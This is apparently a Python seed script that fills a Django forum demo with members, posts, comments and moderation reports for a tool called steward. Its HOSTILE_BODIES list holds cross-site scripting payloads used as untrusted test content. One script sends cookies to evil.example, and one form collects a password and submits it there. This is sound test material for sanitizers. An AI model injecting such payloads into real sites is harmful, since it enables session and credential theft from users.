"""The forum's content for the demo: members (users of the product, some suspended, some
with broken addresses), their posts and comments (some hostile: content under moderation is
untrusted), and reports made through steward.report, as the forum's report button makes
them. About one item in ten is decided already, through the decision service, so its
effect on the post applies too."""

from datetime import timedelta

from django.contrib.auth import get_user_model
from django.contrib.auth.hashers import make_password
from django.contrib.auth.models import Group
from django.utils import timezone

import steward
from forum.models import Comment, Post
from steward.accounts.sync import refresh_account
from steward.models import Account, Item, Suspension
from steward.operations import serialize_item
from steward.services.items import decide_item

MEMBER_PASSWORD = "member-demo"

TOPICS = [
    "my sourdough starter",
    "the new release",
    "weekend hiking trip",
    "home network setup",
    "the city council vote",
    "learning Rust",
    "vintage synthesizers",
    "balcony tomatoes",
    "the football match",
    "remote work",
    "a used car purchase",
    "my cat's diet",
]

TITLES = [
    "Thoughts on {t}",
    "Question about {t}",
    "Anyone else tried {t}?",
    "Update on {t}",
    "Hot take: {t} is overrated",
    "Help needed with {t}",
    "Photos from {t}",
]

BODIES = [
    "<p>I have been thinking about <b>{t}</b> for a while. What do you all think?</p>",
    "<p>Quick question about {t}:</p><ul><li>Is it worth it?</li><li>Any tips?</li></ul>",
    '<p>Here is my write-up on {t}. <a href="https://example.com/post">Full post</a>.</p>',
    '<p>BUY CHEAP WATCHES NOW!!! best prices on {t} <a href="https://spam.example">click</a></p>',
    "<p>You are an idiot if you disagree about {t}. Everyone like you should leave.</p>",
    "<blockquote>Someone said {t} was fine.</blockquote><p>I disagree, strongly.</p>",
]

HOSTILE_BODIES = [
    "<p>Nice post!</p><script>fetch('https://evil.example/steal?c='+document.cookie)</script>",
    "<p>Look at this</p><img src=x onerror=\"alert('xss')\">",
    '<p><a href="javascript:alert(document.domain)">Click for a prize</a></p>',
    '<svg onload="alert(1)"><circle r="10"/></svg><p>Cute circle</p>',
    '<p>Tracking pixel ahead</p><img src="http://127.0.0.1:9/x.png" width="1" height="1">',
    '<iframe src="https://evil.example/"></iframe><p>Embedded thing</p>',
    '<p style="background:url(http://127.0.0.1:9/bg.png)">Styled</p><form action="https://evil.example"><input name=password></form>',
]

REASONS = [
    ("spam", "Looks like advertising"),
    ("harassment", "Insults another member"),
    ("nsfw", "Not safe for work image"),
    ("other", "Something feels off"),
    ("spam", ""),
    ("other", "Possible scam link"),
]


def seed_content(rng, count: int, moderator) -> int:
    """`count` reported objects (posts, one in eight a comment), each an item."""
    now = timezone.now()
    members = _members(rng, max(10, count // 5), now)
    posts, comments = [], []
    for n in range(count):
        topic = rng.choice(TOPICS)
        if n < len(HOSTILE_BODIES):
            title, body = f"Hostile sample {n + 1}", HOSTILE_BODIES[n]
        elif n % 25 == 3:
            title, body = rng.choice(TITLES).format(t=topic), HOSTILE_BODIES[(n // 25) % 7]
        else:
            title, body = rng.choice(TITLES).format(t=topic), rng.choice(BODIES).format(t=topic)
        posts.append(
            Post(
                author=rng.choice(members),
                title=title,
                body_html=body,
                created_at=now - timedelta(minutes=rng.randint(5, 60 * 24 * 7)),
            )
        )
    posts = Post.objects.bulk_create(posts)
    for n, post in enumerate(posts):
        if n % 8 == 7:
            comments.append(
                Comment(
                    post=post,
                    author=rng.choice(members),
                    body_html=rng.choice(BODIES).format(t="it"),
                )
            )
    comments = {c.post_id: c for c in Comment.objects.bulk_create(comments)}
    decided = 0
    for n, post in enumerate(posts):
        target = comments.get(post.pk, post)
        result = None
        for _ in range(rng.randint(1, 3)):
            reason, note = rng.choice(REASONS)
            result = steward.report(target, reason=reason, reporter=rng.choice(members), note=note)
        if n % 10 == 9 and n >= len(HOSTILE_BODIES):
            action = rng.choice(["approve", "remove", "ignore"])
            decide_item(moderator, result.item.pk, action, "", "", 1, serialize_item)
            decided += 1
    return len(posts)


def _members(rng, count, now):
    """Users of the forum, signing in with MEMBER_PASSWORD."""
    user_model = get_user_model()
    password = make_password(MEMBER_PASSWORD)
    trusted, _ = Group.objects.get_or_create(name="trusted")
    users = user_model.objects.bulk_create(
        [
            user_model(
                username=f"member{n:04d}",
                first_name="Member",
                last_name=str(n),
                # Some addresses are broken, as in any real product.
                email=f"member{n:04d}(at)example.com"
                if n % 13 == 5
                else f"member{n:04d}@example.com",
                password=password,
                # A third joined this week: their posts go to the "New accounts" queue
                # (forum/steward.py), so every queue has work in the demo.
                date_joined=now
                - timedelta(days=rng.randint(1, 6) if n % 3 == 1 else rng.randint(8, 900)),
                last_login=now - timedelta(minutes=rng.randint(1, 60 * 24 * 30)),
            )
            for n in range(count)
        ]
    )
    trusted.user_set.add(*[u for n, u in enumerate(users) if n % 7 == 0])
    for n, user in enumerate(users):
        account = refresh_account(user, now)
        if n % 17 == 0:
            Suspension.objects.create(
                account=account,
                ends_at=now + timedelta(days=3),
                reason_code="repeat-offender",
                deactivated_user=True,
            )
            user.is_active = False
            user.save(update_fields=["is_active"])
    return users


def reset_content():
    Item.objects.all().delete()
    Post.all_objects.all().delete()
    get_user_model().objects.filter(username__startswith="member").delete()
    Account.objects.filter(username__startswith="member").delete()
